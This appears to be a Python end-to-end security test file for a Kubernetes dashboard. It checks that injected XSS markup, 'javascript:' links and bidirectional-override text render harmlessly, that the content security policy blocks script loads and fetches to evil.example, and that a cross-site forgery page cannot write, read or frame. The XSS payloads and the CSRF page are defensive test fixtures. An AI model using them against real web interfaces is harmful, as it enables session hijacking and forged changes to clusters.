"""What others write into a cluster: markup, control characters, turned lines, too much of it."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from typing_extensions import override

from tests.agents.dashboard.conftest import Cluster, click, go, shows
from tests.support.browser import Browser, Page

pytestmark = [pytest.mark.e2e, pytest.mark.slow, pytest.mark.xdist_group("dashboard")]

MARKUP = "<img src=x onerror=\"document.title='taken'\"><script>document.title='taken'</script>"
TURNED = "\u202egnp.exe"
CONTROLS = "a\x1b[2Jb\x07c\x00d".replace("\x00", "")
LARGE = 700_000
TAKEN = """(() => {
  const all = (selector) => [...document.querySelectorAll(selector)];
  const acts = (each) => each.getAttributeNames().some((name) => /^on/.test(name));
  const leads = (each) => !/^(#|https?:)/.test(each.getAttribute('href'));
  return document.title.includes('taken') || all('main img, main script, main iframe').length
    || all('*').some(acts) || all('a[href]').some(leads);
})()"""
UNSEEN = r"/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test"


def hostile(kind: str, api_version: str = "v1", **members: Any) -> dict[str, Any]:
    metadata = {
        "name": "hostile",
        "namespace": "default",
        "annotations": {"a": MARKUP, "turned": TURNED, "link": "javascript:alert(1)"},
    }
    return {"apiVersion": api_version, "kind": kind, "metadata": metadata, **members}


@pytest.fixture(scope="module")
def hostiles(cluster: Cluster) -> None:
    """Objects that were written by somebody who means no good."""
    schema = {"type": "object", "x-kubernetes-preserve-unknown-fields": True}
    names = {"plural": "traps", "kind": "Trap"}
    column = {"name": MARKUP, "type": "string", "jsonPath": ".spec.text", "description": MARKUP}
    version = {
        "name": "v1", "served": True, "storage": True, "schema": {"openAPIV3Schema": schema},
        "additionalPrinterColumns": [column],
    }  # fmt: skip
    cluster.apply(
        hostile("ConfigMap", data={"text": MARKUP, "lines": f"one\n{MARKUP}\n", "turned": TURNED}),
        hostile(
            "Event",
            involvedObject={"kind": MARKUP, "namespace": "default", "name": MARKUP},
            type="Warning",
            reason=MARKUP,
            message=f"{MARKUP} {TURNED}",
        ),
        {
            "apiVersion": "apiextensions.k8s.io/v1",
            "kind": "CustomResourceDefinition",
            "metadata": {"name": "traps.example.com"},
            "spec": {
                "group": "example.com",
                "scope": "Namespaced",
                "names": names,
                "versions": [version],
            },
        },
    )
    cluster.kubectl(
        "wait", "crd", "traps.example.com", "--for=jsonpath={.status.acceptedNames.kind}=Trap",
        "--timeout=60s",
    )  # fmt: skip
    condition = {"type": MARKUP, "status": MARKUP, "reason": MARKUP, "message": TURNED}
    owner = {"apiVersion": "v1", "kind": MARKUP, "name": MARKUP, "uid": "u", "controller": True}
    trap = hostile(
        "Trap",
        "example.com/v1",
        spec={"text": MARKUP, MARKUP: TURNED},
        status={"phase": MARKUP, "conditions": [condition]},
    )
    trap["metadata"]["ownerReferences"] = [owner]
    cluster.apply(trap)


VIEWS = {
    "#/": "onerror",
    "#/kind/-/v1/events": "onerror",
    "#/kind/-/v1/configmaps": "hostile",
    "#/kind/example.com/v1/traps": "onerror",
    "#/object/-/v1/configmaps/default/hostile": "onerror",
    "#/object/-/v1/configmaps/default/hostile/yaml": "onerror",
    "#/object/-/v1/configmaps/default/hostile/edit": "Dry run",
    "#/object/-/v1/events/default/hostile": "onerror",
    "#/object/example.com/v1/traps/default/hostile": "onerror",
    "#/object/example.com/v1/traps/default/hostile/yaml": "onerror",
    "#/changes": "hostile",
    "#/object/-/v1/configmaps/default/%3Cimg%20src%3Dx%20onerror%3D1%3E": "onerror",
    "#/at/%3Cimg%20src%3Dx%20onerror%3D1%3E/kind/-/v1/pods": "invalid moment",
    "#/in/%3Cimg%20src%3Dx%20onerror%3D1%3E/": "onerror",
    "#/kind/%3Cimg%3E/v1/x": "no such kind",
}


@pytest.mark.usefixtures("hostiles")
def test_every_view_shows_hostile_text_as_text(cluster: Cluster, page: Page) -> None:
    page.call("Page.reload")  # to know of the custom resource
    page.until("document.getElementById('token')")
    page.run(f"document.getElementById('token').value = {json.dumps(cluster.token)}")
    page.run("document.querySelector('form.login').requestSubmit()")
    page.until("!document.getElementById('token')")
    for hash_, shown in VIEWS.items():
        go(page, hash_)
        shows(page, shown)
        assert not page.run(TAKEN), hash_
        # Nothing turns the line or moves the cursor, in texts, titles and the editor.
        assert not page.run(f"{UNSEEN}(document.body.innerText)"), hash_
        titles = "[...document.querySelectorAll('[title]')].map((each) => each.title).join('')"
        assert not page.run(f"{UNSEEN}({titles})"), hash_
        editor = "document.querySelector('.editor')?.value || ''"
        assert not page.run(f"{UNSEEN}({editor})"), hash_
    go(page, "#/object/-/v1/configmaps/default/hostile/yaml")
    shows(page, "\\u202egnp.exe")
    assert page.complaints() == []
    for asked in page.requested():
        assert asked["url"].startswith(cluster.url), asked["url"]
        if "/ui/" not in asked["url"] and "Authorization" not in asked["headers"]:
            assert asked["url"].endswith("/selfsubjectreviews")  # before the token was known


def test_a_policy_refuses_what_a_page_would_never_do(page: Page) -> None:
    """Were there a hole in the page, the browser would still not run what comes through it."""
    for attempt in (
        "document.body.innerHTML = '<b>x</b>'",
        "eval('1')",
        "new Function('1')",
        "document.createElement('script').src = 'https://evil.example/x.js'",
        "document.createElement('iframe').srcdoc = '<b>x</b>'",
        "setTimeout('1')",
    ):
        script = (
            f"(() => {{ try {{ {attempt}; return ''; }}"
            " catch (error) { return String(error); } })()"
        )
        thrown = page.call(
            "Runtime.evaluate",
            expression=script,
            returnByValue=True,
            allowUnsafeEvalBlockedByCSP=False,  # as scripts of the page are run
        )["result"]["value"]
        assert "TrustedHTML" in thrown or "TrustedScript" in thrown or "Error" in thrown, attempt
    failed = "(error) => String(error)"
    assert "TypeError" in page.run(f"fetch('https://evil.example/').then(() => 'sent', {failed})")
    page.run(
        "document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.example/x.png'}))"
    )
    page.until("performance.getEntriesByType('resource').length > 0")
    page.until_complaint("content security policy")


def test_huge_objects_do_not_stop_the_page(cluster: Cluster, page: Page) -> None:
    lines = "\n".join(f"line {number}" for number in range(20_000))
    cluster.ask(
        "/api/v1/namespaces/default/configmaps",
        "POST",
        json.dumps(
            {
                "apiVersion": "v1",
                "kind": "ConfigMap",
                "metadata": {"name": "huge", "namespace": "default"},
                "data": {"one": "x" * LARGE, "many": lines},
            }
        ).encode(),
        Authorization=f"Bearer {cluster.token}",
        Content_Type="application/json",
    )
    go(page, "#/object/-/v1/configmaps/default/huge/yaml")
    shows(page, "line 7", "#yaml")
    assert page.run("document.querySelectorAll('#yaml .line').length") < 200
    page.run("document.querySelector('#yaml').scrollTop = 1e9")
    page.until("document.querySelector('#yaml').innerText.includes('characters more')")
    assert page.run("document.querySelector('#yaml').innerText.length") < 100_000
    go(page, "#/object/-/v1/configmaps/default/huge/edit")
    page.until(f"document.querySelector('.editor')?.value.length > {LARGE}")
    value = "document.querySelector('.editor').value"
    page.run(f"{value} = {value}.replace('line 7\\n', 'line seven\\n')")
    click(page, "Compare", "main")
    shows(page, "line seven", "#difference")
    assert page.run("document.querySelector('#difference').innerText.length") < 100_000


# Other sites.

EVIL = """<!doctype html><title>evil</title><script>
  const target = new URLSearchParams(location.search).get('target');
  const body = (name) => JSON.stringify({apiVersion: 'v1', kind: 'ConfigMap', metadata: {name}});
  const path = target + '/api/v1/namespaces/default/configmaps';
  const send = (options) => fetch(path, {method: 'POST', credentials: 'include', ...options})
    .then((answer) => answer.type + answer.status, (error) => String(error));
  const attempts = [
    () => send({mode: 'no-cors', body: new Blob([body('forged-1')])}),
    () => send({mode: 'no-cors', body: body('forged-2')}),
    () => send({headers: {'Content-Type': 'application/json'}, body: body('forged-3')}),
    () => send({method: 'GET'}),
    () => new Promise((resolve) => {
      const socket = new WebSocket(path.replace('http', 'ws') + '?watch=1');
      socket.onopen = () => resolve('open');
      socket.onerror = () => resolve('refused');
    }),
    () => new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.src = target + '/ui/';
      frame.onload = () => {
        try {
          resolve(frame.contentDocument ? 'readable' : 'closed');
        } catch {
          resolve('closed');
        }
      };
      document.documentElement.append(frame);
    }),
  ];
  window.results = attempts.map(() => '');
  // One after another: when a server asks for a certificate, the browser ends all its connections
  // with the server once it knows that it has none.
  (async () => {
    for (const [number, attempt] of attempts.entries()) window.results[number] = await attempt();
  })();
</script>"""


@contextmanager
def evil_site() -> Iterator[int]:
    """Serve a page of another site, and return its port."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            data = EVIL.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        @override
        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


def test_another_site_can_neither_write_nor_read_nor_frame(
    cluster: Cluster, browser: Browser
) -> None:
    """Though the browser adds credentials, as one with a client certificate would."""
    with evil_site() as port:
        browser.reach(cluster.url)
        page = browser.open(f"http://127.0.0.1:{port}/?target={cluster.url}")
        page.until("results.every(Boolean)")
        first, second, third, read, socket, frame = page.run("results")
        assert first.startswith("opaque")
        assert second.startswith("opaque")
        assert "TypeError" in third
        assert "TypeError" in read
        assert socket == "refused"
        assert frame == "closed"
        page.until_complaint("frame")
        page.close()
    assert "forged" not in cluster.kubectl("get", "configmaps", "-o", "name")


def test_a_write_of_another_site_is_refused_before_anybody_is_asked_who_it_is(
    cluster: Cluster,
) -> None:
    """As kubectl proxy sends it on, which adds the credentials of the user."""
    body = json.dumps({"metadata": {"name": "forged"}}).encode()
    path = "/api/v1/namespaces/default/configmaps"
    for headers in ({"Sec_Fetch_Site": "cross-site"}, {"Sec_Fetch_Site": "same-site"}):
        code, _, told = cluster.ask(path, "POST", body, **headers)
        assert (code, "another site" in told.decode()) == (403, True)
    code, _, told = cluster.ask(path, "POST", body, Sec_Fetch_Site="same-origin")
    assert "another site" not in told.decode()
